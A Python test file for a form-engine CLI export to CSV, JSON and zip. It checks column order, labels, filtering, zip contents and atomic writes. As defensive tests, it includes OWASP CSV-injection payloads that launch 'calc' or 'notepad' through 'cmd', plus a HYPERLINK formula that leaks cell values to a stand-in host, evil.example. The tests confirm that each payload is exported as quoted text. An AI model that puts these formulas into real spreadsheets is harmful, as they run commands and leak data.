"""`formengine export`: CSV, JSON and zip of the applications, with the answers staff read (labels
for selections, Yes/No, file names), columns in definition order, streamed to a file that appears
only when complete."""

import csv
import datetime as dt
import io
import json
import os
import pty
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from pypdf import PdfReader

from engine import db
from engine.cli import main
from engine.documents.models import ApplicationPdf, ConversionStatus, DocumentConversion
from engine.documents.storage import storage_from_config
from engine.exports import writers
from engine.exports.columns import Column, columns_of
from engine.exports.service import ExportRequest, records_of

SUBMITTED = dt.datetime(2026, 3, 1, 12, 0)
MEI = {
    "first_name": "Mei",
    "last_name": "Chen",
    "gender": "W",
    "gender_desc": "Woman",
    "race_asian": True,
    "legacy_name": "Lin Chen",
    "legacy_2_name": "Wei Chen",
    "essay": '=HYPERLINK("http://evil.example")',
    "phone_mobile": "+1 (647) 555-0199",
}


@pytest.fixture
def applications(add_application):
    return {
        "mei": add_application("mei@example.com", reference="INTL-7K2Q9MXA", submitted_at=SUBMITTED, **MEI),
        "ada": add_application(
            "ada@example.org", "Ada", reference="INTL-ADA22222", submitted_at=SUBMITTED + dt.timedelta(days=20)
        ),
        "draft": add_application("draft@example.net", "Draft", statuses=("started",)),
    }


def _csv(path):
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def test_csv_has_a_row_per_submitted_application_and_columns_in_definition_order(app, export, applications):
    result, path = export("csv")
    assert result.exit_code == 0, result.output
    assert "exported 2 application(s)" in result.stderr
    header, *rows = _csv(path)
    keys = [column.key for column in columns_of(app.extensions["tenant"].current().data)]
    assert header == ["reference", "username", "status", "submitted_at", "definition_version", *keys]
    assert "gender_desc" not in header  # the label is in the choice's own column
    assert len(rows) == 2
    mei = dict(zip(header, next(row for row in rows if row[0] == "INTL-7K2Q9MXA"), strict=True))
    assert mei["username"] == "mei@example.com" and mei["status"] == "submitted"
    assert mei["submitted_at"] == "2026-03-01T12:00:00Z"
    assert mei["first_name"] == "Mei" and mei["gender"] == "Woman" and mei["race_asian"] == "Yes"
    assert (mei["legacy_name"], mei["legacy_2_name"]) == ("Lin Chen", "Wei Chen")  # add-another, numbered
    assert mei["phone_mobile"] == "'+1 (647) 555-0199"  # text to a spreadsheet, shown as typed
    assert mei["essay"] == '\'=HYPERLINK("http://evil.example")'  # never run as a formula


# OWASP's CSV injection payloads, and a phone number and a negative amount typed as text: any cell
# beginning with =, +, -, @, a tab or a carriage return reaches the spreadsheet as text.
FORMULAS = [
    "=1+1",
    "-2+3+cmd|'/C calc'!A0",
    "+ 1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example?leak="&A1&A2, "Error: please click for details")',
    "=cmd|' /C notepad'!'A1'",
    "+1 (647) 555-0199",
    "-5",
]


def test_every_cell_that_a_spreadsheet_would_run_is_text(export, add_application):
    for number, payload in enumerate(FORMULAS):
        add_application(
            f"a{number}@example.com", reference=f"INTL-F{number:07d}", submitted_at=SUBMITTED, essay=payload
        )
    add_application("=1+1@example.com", "@Mei", "-Chen", reference="INTL-FNAMES00", submitted_at=SUBMITTED)
    result, path = export("csv", "--labels")
    assert result.exit_code == 0, result.output
    header, _labels, *rows = _csv(path)
    essays = {row[0]: dict(zip(header, row, strict=True))["essay"] for row in rows}
    assert [essays[f"INTL-F{number:07d}"] for number in range(len(FORMULAS))] == ["'" + p for p in FORMULAS]
    names = dict(zip(header, next(row for row in rows if row[0] == "INTL-FNAMES00"), strict=True))
    assert (names["username"], names["first_name"], names["last_name"]) == ("'=1+1@example.com", "'@Mei", "'-Chen")
    assert all(not cell or cell[0] not in "=+-@\t\r" for row in rows for cell in row)


def test_the_zips_csv_is_neutralised_too(export, add_application):
    add_application(reference="INTL-FZIP0000", submitted_at=SUBMITTED, essay="-2+3+cmd|'/C calc'!A0")
    result, path = export("zip")
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(path) as archive:
        text = archive.read("applications.csv").decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(text, newline="")))
    assert dict(zip(header, row, strict=True))["essay"] == "'-2+3+cmd|'/C calc'!A0"


def test_numbers_stored_as_numbers_are_values_not_text(tmp_path):
    """A number question's negative amount stays a number; the same text in a text answer is quoted."""
    columns = [Column("amount", "Amount", "number"), Column("note", "Note", "text")]

    class Record:
        answers = {"amount": -12.5, "note": "-12.5"}
        documents: dict = {}

        def summary(self):
            return dict.fromkeys(("reference", "username", "status", "submitted_at", "definition_version"), 1)

    path = tmp_path / "numbers.csv"
    assert writers.write_csv(path, columns, [Record()], lambda _step: None) == 1
    assert _csv(path)[1][-2:] == ["-12.5", "'-12.5"]


def test_labels_add_a_second_header_row(export, applications):
    result, path = export("csv", "--labels")
    header, labels, *rows = _csv(path)
    by_key = dict(zip(header, labels, strict=True))
    assert by_key["reference"] == "Reference" and by_key["first_name"] == "First Name (Given Name)"
    assert by_key["legacy_name"] == "Name (1)" and by_key["legacy_2_name"] == "Name (2)"
    assert len(rows) == 2


def test_status_all_and_since(export, applications):
    _result, path = export("csv", "--status", "all")
    assert {row[0] for row in _csv(path)[1:]} == {"INTL-7K2Q9MXA", "INTL-ADA22222", ""}
    _result, path = export("csv", "--since", "2026-03-10")
    assert [row[0] for row in _csv(path)[1:]] == ["INTL-ADA22222"]


def test_json_is_a_list_of_objects_with_the_answers_as_stored(export, applications):
    result, path = export("json")
    assert result.exit_code == 0, result.output
    items = json.loads(path.read_text())
    mei = next(item for item in items if item["reference"] == "INTL-7K2Q9MXA")
    assert set(mei) == {
        "reference",
        "username",
        "status",
        "submitted_at",
        "definition_version",
        "answers",
        "documents",
    }
    assert mei["answers"] == MEI and mei["username"] == "mei@example.com" and mei["status"] == "submitted"
    assert len(items) == 2


def test_an_empty_export_is_valid(export):
    _result, path = export("json")
    assert json.loads(path.read_text()) == []
    _result, path = export("csv")
    assert len(_csv(path)) == 1


def test_zip_holds_the_csv_and_each_applications_pdf_and_documents(app, export, applications):
    store = storage_from_config(app.config)
    store.write("converted/essay.pdf", b"%PDF-1.4 the essay")
    with app.app_context():
        with db.transaction() as tx:
            tx.add(
                DocumentConversion(
                    application_id=applications["mei"],
                    answer_key="essay_file",
                    status=ConversionStatus.COMPLETED.value,
                    file_name="My essay.docx",
                    file_size=1234,
                    pdf_key="converted/essay.pdf",
                )
            )
    result, path = export("zip")
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(path) as archive:
        names = set(archive.namelist())
        assert {
            "applications.csv",
            "INTL-7K2Q9MXA/application.pdf",
            "INTL-7K2Q9MXA/essay_file-My_essay.pdf",
            "INTL-ADA22222/application.pdf",
        } == names
        assert archive.read("INTL-7K2Q9MXA/essay_file-My_essay.pdf") == b"%PDF-1.4 the essay"
        pdf = archive.read("INTL-7K2Q9MXA/application.pdf")
        assert pdf.startswith(b"%PDF-")
        rows = list(csv.reader(io.TextIOWrapper(archive.open("applications.csv"), encoding="utf-8-sig")))
        header = rows[0]
        mei = dict(zip(header, next(row for row in rows if row[0] == "INTL-7K2Q9MXA"), strict=True))
        assert mei["essay_file"] == "My essay.docx"
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)
    assert "Mei" in text and "Chen" in text


def test_a_submitted_pdf_already_stored_is_exported_as_it_is(app, export, applications, sql_pdf):
    sql_pdf(applications["ada"], b"%PDF-1.4 the submitted PDF, byte for byte")
    _result, path = export("zip")
    with zipfile.ZipFile(path) as archive:
        assert archive.read("INTL-ADA22222/application.pdf") == b"%PDF-1.4 the submitted PDF, byte for byte"


@pytest.fixture
def sql_pdf(app):
    def store_pdf(application_id: int, data: bytes) -> None:
        storage_from_config(app.config).write(f"applications/{application_id}/stored.pdf", data)
        with app.app_context(), db.transaction() as tx:
            tx.add(
                ApplicationPdf(
                    application_id=application_id,
                    status=ConversionStatus.COMPLETED.value,
                    pdf_key=f"applications/{application_id}/stored.pdf",
                    attempts=1,
                )
            )

    return store_pdf


def test_records_are_read_in_batches_in_id_order(app, add_application):
    ids = [add_application(reference=None, submitted_at=SUBMITTED) for _ in range(7)]
    with app.app_context():
        found = [record.id for record in records_of(ExportRequest("json", None), batch=3)]
    assert found == ids


@pytest.mark.parametrize(
    "args, says",
    [
        (["--format", "xml"], "'xml' is not one of"),
        (["--since", "yesterday"], "'yesterday' does not match"),
        (["--status", "draft"], "'draft' is not one of"),
    ],
)
def test_bad_options_are_refused_before_anything_is_written(export, tmp_path, args, says):
    output = tmp_path / "out.csv"
    result = CliRunner().invoke(main, ["export", "--format", "csv", "--output", str(output), *args])
    assert result.exit_code == 2 and says in result.output and not output.exists()


def test_labels_with_json_is_a_usage_error(export):
    result, path = export("json", "--labels")
    assert result.exit_code == 2 and "--labels applies to csv and zip" in result.output and not path.exists()


def test_a_failed_export_leaves_the_earlier_file_and_no_part_file(export, applications, tmp_path, monkeypatch):
    output = tmp_path / "applications.csv"
    output.write_text("the export of yesterday")

    def broken(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(writers, "write_csv", broken)
    result, _path = export("csv", output=output)
    assert result.exit_code == 1 and "could not write" in result.output and "No space left" in result.output
    assert output.read_text() == "the export of yesterday"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".applications")] == []


def test_an_output_in_a_missing_folder_is_made(export, applications, tmp_path):
    result, path = export("csv", output=tmp_path / "new" / "folder" / "out.csv")
    assert result.exit_code == 0 and path.exists()


def test_on_a_terminal_a_progress_bar_counts_the_applications(app, add_application, tmp_path, job_env):
    """The real command in a pseudo-terminal, as staff run it."""
    for _ in range(3):
        add_application(submitted_at=SUBMITTED)
    primary, secondary = pty.openpty()
    output = tmp_path / "out.csv"
    formengine = Path(sys.executable).with_name("formengine")
    process = subprocess.run(
        [str(formengine), "export", "--format", "csv", "--output", str(output)],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=secondary,
        env={**os.environ, "FORMENGINE_INSTANCE": app.instance_path},
        timeout=120,
    )
    os.close(secondary)
    seen = b""
    while True:
        try:
            chunk = os.read(primary, 4096)
        except OSError:
            break
        if not chunk:
            break
        seen += chunk
    os.close(primary)
    text = seen.decode(errors="replace")
    assert process.returncode == 0, text
    assert "Exporting" in text and "3/3" in text and "exported 3 application(s)" in text
    assert len(_csv(output)) == 4


def test_zip_holds_a_kept_file_as_it_was_sent(app, export, applications):
    """A kept kind (file_type xlsx) goes into the zip byte for byte under its own extension."""
    store = storage_from_config(app.config)
    workbook = b"PK\x03\x04 the budget workbook"
    store.write("converted/budget.xlsx", workbook)
    with app.app_context():
        with db.transaction() as tx:
            tx.add(
                DocumentConversion(
                    application_id=applications["mei"],
                    answer_key="essay_file",
                    status=ConversionStatus.COMPLETED.value,
                    file_name="Budget 2027.xlsx",
                    file_size=len(workbook),
                    file_type="xlsx",
                    pdf_key="converted/budget.xlsx",
                )
            )
    result, path = export("zip")
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(path) as archive:
        assert archive.read("INTL-7K2Q9MXA/essay_file-Budget_2027.xlsx") == workbook
        assert not [
            name for name in archive.namelist() if name.startswith("INTL-7K2Q9MXA/essay_file") and name.endswith(".pdf")
        ]
